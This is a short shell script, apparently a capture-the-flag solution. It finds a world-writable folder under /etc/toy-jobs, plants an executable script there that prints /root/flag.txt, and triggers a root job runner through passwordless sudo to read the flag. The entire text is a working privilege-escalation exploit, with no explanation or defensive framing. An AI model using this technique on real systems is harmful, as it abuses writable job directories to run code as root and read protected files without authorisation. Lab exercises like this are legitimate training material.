folder=$(find /etc/toy-jobs -type d -perm -0002 | head -n 1)
printf '#!/bin/sh\ncat /root/flag.txt\n' > "$folder/99-read"
chmod 755 "$folder/99-read"
sudo -n /usr/local/sbin/run-jobs | grep '^slw'
